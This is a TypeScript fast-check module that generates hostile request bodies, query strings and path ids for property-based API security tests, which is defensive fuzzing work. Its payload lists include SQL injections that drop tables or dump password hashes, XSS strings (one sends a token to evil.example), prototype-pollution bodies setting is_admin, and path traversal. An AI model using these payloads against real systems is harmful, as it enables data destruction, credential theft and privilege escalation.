import fc from 'fast-check';
import { z } from 'zod';

// Generators of hostile requests for the property-based suites: strings, JSON values, bodies
// guided by the contract's JSON Schema (so that some requests get past validation and reach
// the services), query strings and path ids.

export const SQL_INJECTIONS = [
  "' OR 1=1 --",
  "'; DROP TABLE users; --",
  '1; DROP TABLE contact_messages; --',
  "' UNION SELECT email, password_hash FROM users --",
  '" OR ""="',
  "admin'--",
  "1' AND pg_sleep(5) IS NULL --",
  '$$; DELETE FROM sessions; $$',
  "%' OR '%'='",
  "Robert'); DROP TABLE students;--",
];

export const SCRIPT_INJECTIONS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(document.cookie)>',
  'javascript:alert(1)',
  "</textarea><script>fetch('//evil.example/'+localStorage.token)</script>",
  '{{constructor.constructor("alert(1)")()}}',
];

const ODD_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '9'.repeat(40),
  '__proto__',
  'constructor',
  'prototype',
  '../../../etc/passwd',
  '%00',
  '%',
  '\\',
  '😀👩🏽‍⚕️🇰🇪',
  'Habari yako? مرحبا 你好',
  '\u202eevil.exe',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  '\r\n\t\v\f',
  'all',
  'true',
  '${7*7}',
];

/** Odd text that is still a valid JSON string: NUL, unpaired surrogates, bidi, emoji. */
const EDGE_TEXT = ['a\u0000b', '\u0000', 'x\ud800y', '\udfff', 'Amani\u202eevil', '😀👩🏽‍⚕️🇰🇪', 'Habari مرحبا 你好', "O'Brien", '<b>bold</b>', 'a\\b', 'tab\there'];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...SQL_INJECTIONS, ...SCRIPT_INJECTIONS, ...ODD_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  // Huge, but under the body limit (413 has its own test).
  {
    weight: 1,
    arbitrary: fc.tuple(fc.constantFrom('x', 'é', '😀', '<', "'"), fc.integer({ min: 201, max: 60_000 })).map(([char, count]) => char.repeat(count)),
  },
);

const hostileKey: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '__proto__',
      'constructor',
      'prototype',
      'id',
      'is_admin',
      'admin_level',
      'password_hash',
      'created_by',
      'toString',
      'hasOwnProperty',
    ),
  },
  { weight: 1, arbitrary: hostileString },
);

/** An object as written in JSON text: the pairs in order, duplicates and __proto__ kept. */
export class JsonObject {
  constructor(readonly entries: [string, JsonAst][]) {}
}
export type JsonAst = string | number | boolean | null | JsonAst[] | JsonObject;

/** JSON text of a value; unlike JSON.stringify it keeps '__proto__' keys and duplicates. */
export function renderJson(value: JsonAst): string {
  if (value instanceof JsonObject) return `{${value.entries.map(([key, item]) => `${JSON.stringify(key)}:${renderJson(item)}`).join(',')}}`;
  if (Array.isArray(value)) return `[${value.map(renderJson).join(',')}]`;
  return JSON.stringify(value);
}

const hostileNumber = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(0, -0, -1, 1, 2 ** 31, 2 ** 31 - 1, -(2 ** 31), Number.MAX_SAFE_INTEGER, Number.MAX_SAFE_INTEGER + 2, 1e308, 5e-324, 0.5),
);

/** Any JSON value, nested objects and arrays included, with hostile keys and strings. */
export const hostileJson: fc.Arbitrary<JsonAst> = fc.letrec<{ value: JsonAst }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', maxDepth: 4 },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 5 }),
    fc.array(fc.tuple(hostileKey, tie('value')), { maxLength: 5 }).map((entries) => new JsonObject(entries)),
  ),
})).value;

/** The JSON Schema of a contract schema, as the OpenAPI document describes it. */
export interface JsonSchema {
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  format?: string;
  pattern?: string;
  /** A date's range (the contract's dateField). */
  formatMinimum?: string;
  formatMaximum?: string;
  /** A free-form JSON field's limits (the contract's jsonObjectField). */
  maxDepth?: number;
  maxCharacters?: number;
  additionalProperties?: unknown;
}

export function jsonSchemaOf(schema: z.ZodType): JsonSchema {
  return z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any', reused: 'inline' }) as JsonSchema;
}

const email = fc
  .tuple(fc.constantFrom('amani', 'juma.k', 'neema_w', 'wanjiru+tulia', "o'brien"), fc.nat({ max: 5000 }), fc.constantFrom('example.org', 'tulia.co.ke'))
  .map(([name, n, domain]) => `${name}${n}@${domain}`);
const isoDate = fc.date({ min: new Date('1990-01-01'), max: new Date('2035-12-31'), noInvalidDate: true }).map((date) => date.toISOString().slice(0, 10));
const url = fc.constantFrom(
  'https://example.org/help',
  'http://tulia.co.ke/a?b=c',
  'https://example.org/<script>',
  'javascript:alert(1)',
  'ftp://example.org',
  'data:text/html,<script>alert(1)</script>',
);

/** The day before (-1) or after (+1) a YYYY-MM-DD date. */
function dayNext(date: string, days: number): string {
  const next = new Date(`${date}T00:00:00Z`);
  next.setUTCDate(next.getUTCDate() + days);
  return next.toISOString().slice(0, 10);
}

// 1, 2 and 4 UTF-8 bytes a character; '😀' is also 2 UTF-16 units, as the limits count.
const UNITS = ['x', 'é', 'Ж', '😀'];

/** `count` UTF-16 units of text made of `unit` (an odd count ends with an 'x'). */
function textOfLength(unit: string, count: number): string {
  const whole = Math.floor(count / unit.length);
  return unit.repeat(whole) + 'x'.repeat(count - whole * unit.length);
}

/** `count` letters in a sequence that does not compress (deterministic). */
function lettersOf(count: number): string {
  let state = count;
  return Array.from({ length: count }, () => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return String.fromCharCode(97 + ((state >>> 16) % 26));
  }).join('');
}

/** Looks like another username: mixed scripts, invisible characters, full-width letters. */
const LOOKALIKE_USERNAMES = [
  'аmani',
  'amanі',
  'wanjirο',
  'amani\u200b',
  'ama\u200dni',
  'ama\u00adni',
  '\ufeffamani',
  'amani\u202e',
  'ａｍａｎｉ',
  'Ａmani',
  'amani\u3164',
];

/**
 * Values at and past every limit the schema states: exactly the longest text, one character
 * more, and far more (in 1- to 4-byte characters); one short of the shortest; the first and
 * last dates of the range, the days just outside it and years PostgreSQL cannot store; the
 * longest e-mail address and longer ones.
 */
export function boundaryStrings(schema: JsonSchema, name = ''): string[] {
  const values: string[] = [];
  if (schema.format === 'date') {
    const min = schema.formatMinimum ?? '1900-01-01';
    const max = schema.formatMaximum ?? '2100-12-31';
    values.push(min, max, dayNext(min, -1), dayNext(max, 1), '0000-01-01', '0001-01-01', '0000-02-29', '9999-12-31', '1969-12-31', '2038-01-19');
  } else if (schema.format === 'email') {
    const max = schema.maxLength ?? 254;
    // Letters that do not repeat (a repeated letter compresses, and the index would take it).
    const at = (length: number) => `${lettersOf(length - '@example.org'.length)}@example.org`;
    values.push(at(max), at(max + 1), at(3000), `${'a'.repeat(64)}@${'b'.repeat(63)}.org`);
  } else {
    if (schema.maxLength !== undefined) {
      const max = schema.maxLength;
      for (const unit of UNITS) values.push(textOfLength(unit, max), textOfLength(unit, max + 1));
      values.push(lettersOf(Math.min(max * 50, 60_000)), ` ${'x'.repeat(max)} `);
    }
    if (schema.minLength !== undefined && schema.minLength > 0) values.push('x'.repeat(schema.minLength - 1), ' '.repeat(schema.minLength));
  }
  if (name === 'username') values.push(...LOOKALIKE_USERNAMES);
  return values;
}

/** A value nested `depth` levels deep (objects and arrays in turn). */
export function nestedValue(depth: number): JsonAst {
  let value: JsonAst = 'x';
  for (let level = 0; level < depth; level += 1) value = level % 2 === 0 ? new JsonObject([['a', value]]) : [value];
  return value;
}

/** Free-form JSON objects at and past their limits: as deep as allowed, one level more, far deeper; larger than allowed. */
function boundaryObjects(schema: JsonSchema): JsonAst[] {
  const depth = schema.maxDepth ?? 4;
  const characters = schema.maxCharacters ?? 4000;
  const wide = new JsonObject(Array.from({ length: Math.ceil(characters / 20) + 1 }, (_, index) => [`day${index}`, ['09:00-12:00']]));
  return [
    new JsonObject([['a', nestedValue(depth - 1)]]),
    new JsonObject([['a', nestedValue(depth)]]),
    new JsonObject([['a', nestedValue(40)]]),
    new JsonObject([['a', nestedValue(2000)]]),
    wide,
  ];
}

function plausibleString(schema: JsonSchema, name: string): fc.Arbitrary<string> {
  const boundary = boundaryStrings(schema, name);
  const usual = usualString(schema, name);
  return boundary.length > 0 ? fc.oneof({ weight: 3, arbitrary: usual }, { weight: 1, arbitrary: fc.constantFrom(...boundary) }) : usual;
}

function usualString(schema: JsonSchema, name: string): fc.Arbitrary<string> {
  if (schema.format === 'email') return fc.oneof({ weight: 5, arbitrary: email }, { weight: 1, arbitrary: fc.emailAddress() });
  if (schema.format === 'date') return isoDate;
  if (schema.pattern) return fc.stringMatching(new RegExp(schema.pattern), { size: 'xsmall' });
  if (/url/.test(name)) return url;
  const min = Math.max(schema.minLength ?? 0, 0);
  const max = Math.min(schema.maxLength ?? 60, 60);
  const text = fc.oneof(
    { weight: 3, arbitrary: fc.string({ unit: 'grapheme', minLength: Math.max(min, 1), maxLength: Math.max(max, min, 1) }) },
    { weight: 2, arbitrary: fc.constantFrom(...SQL_INJECTIONS, ...SCRIPT_INJECTIONS, 'Amani Wanjiru', 'longenough1', '+254712345678', 'Nairobi') },
    // Text a form would never send but a client can: in an otherwise valid body it reaches the database.
    { weight: 1, arbitrary: fc.constantFrom(...EDGE_TEXT) },
  );
  return text.filter((value) => value.length >= min);
}

/** Values that satisfy the schema most of the time; the fields are sometimes hostile instead. */
export function plausible(schema: JsonSchema, name = ''): fc.Arbitrary<JsonAst> {
  if (schema.enum) return fc.constantFrom(...(schema.enum as JsonAst[]));
  if (schema.const !== undefined) return fc.constant(schema.const as JsonAst);
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices) return fc.oneof(...choices.map((choice) => plausible(choice, name)));
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'string':
      return plausibleString(schema, name);
    case 'number':
    case 'integer': {
      // The limits themselves and just past them.
      const limits = [schema.minimum, schema.maximum].flatMap((limit) => (limit === undefined ? [] : [limit, limit - 1, limit + 1]));
      return fc.oneof(
        { weight: 4, arbitrary: fc.integer({ min: Math.max(schema.minimum ?? -3, -3), max: Math.min(schema.maximum ?? 40, 40) }) },
        { weight: 1, arbitrary: hostileNumber },
        ...(limits.length ? [{ weight: 1, arbitrary: fc.constantFrom(...limits) }] : []),
      );
    }
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(schema.items ? plausible(schema.items, name) : hostileJson, { maxLength: 4 });
    case 'object':
      // A free-form object (a record): small ones, and ones at and past its depth and size.
      if (!schema.properties && schema.additionalProperties !== undefined) {
        return fc.oneof(
          { weight: 3, arbitrary: fc.array(fc.tuple(hostileKey, hostileJson), { maxLength: 4 }).map((entries) => new JsonObject(entries)) },
          { weight: 2, arbitrary: fc.constantFrom(...boundaryObjects(schema)) },
        );
      }
      return objectOf(schema);
    default:
      return hostileJson;
  }
}

/** An object of the schema's fields: required ones always there, any field sometimes hostile. */
function objectOf(schema: JsonSchema): fc.Arbitrary<JsonAst> {
  const properties = Object.entries(schema.properties ?? {});
  const required = new Set(schema.required ?? []);
  const fields = properties.map(([key, property]) =>
    fc.tuple(
      fc.constant(key),
      fc.oneof({ weight: 8, arbitrary: plausible(property, key) }, { weight: 1, arbitrary: hostileJson }),
      // Optional fields are left out now and then; required ones rarely.
      fc.integer({ min: 0, max: required.has(key) ? 19 : 2 }),
    ),
  );
  const extra = fc.oneof(
    { weight: 6, arbitrary: fc.constant([]) },
    { weight: 1, arbitrary: fc.array(fc.tuple(hostileKey, hostileJson), { minLength: 1, maxLength: 2 }) },
  );
  return fc.tuple(fc.tuple(...fields), extra).map(([chosen, more]) => {
    const entries: [string, JsonAst][] = chosen.filter(([, , keep]) => keep !== 0).map(([key, value]) => [key, value]);
    return new JsonObject([...more, ...entries]);
  });
}

const MALFORMED_BODIES = [
  '{',
  '{"a":',
  'nul',
  '[1,]',
  "{'a':1}",
  '{"a":1}garbage',
  ' ',
  '\u0000',
  '{"a":"\\u0000"}',
  '{"a":"\\ud800"}',
  '{"__proto__":{"is_admin":true}}',
  '{"constructor":{"prototype":{"is_admin":true}}}',
  '1e999',
  '-',
  '"\\x41"',
];

/** The text of a body: schema-guided most of the time, else any JSON value or broken JSON. */
export function bodyText(schema: JsonSchema | undefined): fc.Arbitrary<string> {
  const guided = schema ? [{ weight: 6, arbitrary: plausible(schema).map(renderJson) }] : [];
  return fc.oneof(
    ...guided,
    { weight: 2, arbitrary: hostileJson.map(renderJson) },
    { weight: 1, arbitrary: fc.constantFrom(...MALFORMED_BODIES) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  );
}

/** Percent-encodes the UTF-8 bytes of a text; unlike encodeURIComponent it takes lone surrogates. */
export function percentEncode(text: string): string {
  return [...Buffer.from(text, 'utf8')]
    .map((byte) => (/[A-Za-z0-9_.~-]/.test(String.fromCharCode(byte)) ? String.fromCharCode(byte) : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`))
    .join('');
}

const RAW_QUERY_JUNK = [
  '%',
  '%zz',
  '&&',
  '=',
  'a[b]=c',
  'a[]=1&a[]=2',
  '__proto__[is_admin]=1',
  'constructor[prototype][x]=1',
  'search=%00',
  'page=1&page=2',
  '%E2%82',
  'x=%ED%A0%80',
];

/** A query string (without '?'): the schema's parameters, plausible or hostile, and junk. */
export function queryText(schema: JsonSchema | undefined): fc.Arbitrary<string> {
  const properties = Object.entries(schema?.properties ?? {});
  const asText = (value: JsonAst): string => (typeof value === 'string' ? value : renderJson(value));
  const known = properties.map(([key, property]) =>
    fc.option(fc.tuple(fc.constant(key), fc.oneof({ weight: 4, arbitrary: plausible(property, key).map(asText) }, { weight: 1, arbitrary: hostileString })), {
      freq: 2,
    }),
  );
  const extra = fc.array(fc.tuple(hostileKey, hostileString), { maxLength: 2 });
  const junk = fc.option(fc.constantFrom(...RAW_QUERY_JUNK), { freq: 2 });
  return fc.tuple(fc.tuple(...known), extra, junk).map(([chosen, more, raw]) => {
    const pairs = [...chosen.filter((pair): pair is [string, string] => pair !== null), ...more];
    const encoded = pairs.map(([key, value]) => `${percentEncode(key)}=${percentEncode(value)}`);
    if (raw) encoded.push(raw);
    return encoded.join('&');
  });
}

const HOSTILE_IDS = [
  '0',
  '-1',
  '-2147483648',
  '2147483647',
  '2147483648',
  '99999999999999999999',
  '1e3',
  '1.5',
  '0x10',
  'NaN',
  'null',
  'undefined',
  '%00',
  '%20',
  '1%00',
  "1'%20OR%20'1'%3D'1",
  '1%3B%20DROP%20TABLE%20users',
  '%E2%82%AC',
  '..%2F..%2Fetc',
  '%F0%9F%98%80',
  '%ED%A0%80',
  '1,2',
  '[1]',
  '%7B%7D',
];

/** A path id: a small real-looking id most of the time, else something hostile. */
export const pathId: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.integer({ min: 1, max: 40 }).map(String) },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_IDS) },
  { weight: 2, arbitrary: hostileString.filter((value) => value.length > 0 && value.length < 300).map(percentEncode) },
);

/** A stable 31-bit seed per name, so adding a route does not change the others' cases. */
export function seedFor(base: number, name: string): number {
  let hash = base | 0;
  for (const char of name) hash = Math.imul(hash ^ char.charCodeAt(0), 16_777_619);
  return hash >>> 1;
}

/** A value the schema accepts (the first choice of each union, text within its lengths), unique by `serial`. */
export function validValue(schema: JsonSchema, name: string, serial: number): JsonAst {
  if (schema.enum) return schema.enum[0] as JsonAst;
  if (schema.const !== undefined) return schema.const as JsonAst;
  const choices = schema.anyOf ?? schema.oneOf;
  // A reference to another record is left empty (id 1 need not be the right kind of record).
  if (choices && name.endsWith('_id') && choices.some((choice) => choice.type === 'null')) return null;
  if (choices) return validValue(choices.find((choice) => choice.type !== 'null') ?? choices[0] ?? {}, name, serial);
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'string': {
      if (schema.format === 'email') return `valid${serial}@example.org`;
      if (schema.format === 'date') return schema.formatMinimum && schema.formatMinimum > '2000-06-15' ? schema.formatMinimum : '2000-06-15';
      if (/url/.test(name)) return 'https://example.org/page';
      // Not the text of the other fields: a new password must not contain the username or name.
      if (/password/.test(name)) return `kilima ${serial} mvua`.padEnd(schema.minLength ?? 0, '!');
      if (schema.pattern) return '1';
      const text = `valid${serial}x`.padEnd(schema.minLength ?? 0, 'x');
      return text.slice(0, schema.maxLength ?? text.length);
    }
    case 'number':
    case 'integer':
      return Math.min(Math.max(schema.minimum ?? 1, 1), schema.maximum ?? 1);
    case 'boolean':
      return false;
    case 'null':
      return null;
    case 'array':
      return schema.items ? [validValue(schema.items, name, serial)] : [];
    case 'object':
      return new JsonObject(Object.entries(schema.properties ?? {}).map(([key, property]) => [key, validValue(property, key, serial)]));
    default:
      return null;
  }
}

/** Every value at and just past the limits a field's schema states (none when it states none). */
export function boundaryValues(schema: JsonSchema, name: string): JsonAst[] {
  const choices = schema.anyOf ?? schema.oneOf;
  // A number given as a number or as text (wholeNumber, positiveIntText): its range, both ways.
  const range = [schema.minimum, schema.maximum].flatMap((limit) => (limit === undefined ? [] : [limit - 1, limit, limit + 1]));
  if (choices) return [...new Set([...choices.flatMap((choice) => boundaryValues(choice, name)), ...range, ...range.map(String)])];
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  if (type === 'string') return boundaryStrings(schema, name);
  if (type === 'number' || type === 'integer')
    return [schema.minimum, schema.maximum].flatMap((limit) => (limit === undefined ? [] : [limit - 1, limit, limit + 1]));
  if (type === 'object' && !schema.properties && schema.additionalProperties !== undefined) return boundaryObjects(schema);
  return [];
}
